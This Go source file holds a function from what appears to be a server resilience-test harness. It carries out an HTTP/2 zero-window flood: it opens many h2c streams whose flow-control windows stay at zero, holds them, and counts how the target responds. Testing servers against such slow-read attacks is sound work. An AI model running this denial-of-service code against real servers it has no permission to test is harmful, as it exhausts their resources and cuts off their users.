package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// settingInitialWindowSize is SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113).
const (
	settingInitialWindowSize = 0x4
	frameData                = 0x0
)

// zeroWindow opens streams GETs of path over h2c, 100 a connection, from
// a client whose streams' flow-control windows are 0 and never grow: it
// reads what serve sends (HEADERS; DATA cannot come) but opens no window.
// It holds them for hold, and says how many started and what came.
func zeroWindow(ctx context.Context, e *attackEnv, streams int, path string, hold time.Duration) string {
	var started, reset atomic.Int64
	var dataBytes atomic.Int64
	var conns []net.Conn
	var mu sync.Mutex
	var wg sync.WaitGroup
	failed := 0
	for opened := 0; opened < streams; opened += 100 {
		c, err := net.DialTimeout("tcp", e.serve.addr, 5*time.Second)
		if err != nil {
			failed++
			continue
		}
		conns = append(conns, c)
		settings := binary.BigEndian.AppendUint16(nil, settingInitialWindowSize)
		settings = binary.BigEndian.AppendUint32(settings, 0)
		io.WriteString(c, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
		writeFrame(c, frameSettings, 0, 0, settings)
		wg.Add(1)
		go func() { // read and count, acknowledge the server's SETTINGS, open no window
			defer wg.Done()
			for {
				typ, flags, _, payload, err := readFrame(c)
				if err != nil {
					return
				}
				switch {
				case typ == frameSettings && flags&flagAck == 0:
					mu.Lock()
					writeFrame(c, frameSettings, flagAck, 0, nil)
					mu.Unlock()
				case typ == frameHeaders:
					started.Add(1)
				case typ == frameData:
					dataBytes.Add(int64(len(payload)))
				case typ == frameRSTStream:
					reset.Add(1)
				}
			}
		}()
		for i := range min(100, streams-opened) {
			block := hpackLiterals(":method", "GET", ":scheme", "http", ":authority", e.serve.addr, ":path", path)
			mu.Lock()
			writeFrame(c, frameHeaders, flagEndHeaders|flagEndStream, uint32(2*i+1), block)
			mu.Unlock()
		}
	}
	select {
	case <-time.After(hold):
	case <-ctx.Done():
	}
	for _, c := range conns {
		c.Close()
	}
	wg.Wait()
	return fmt.Sprintf("%d streams on %d connections (%d failed to connect); responses started: %d; DATA received: %d bytes; streams reset by serve: %d",
		streams, len(conns), failed, started.Load(), dataBytes.Load(), reset.Load())
}
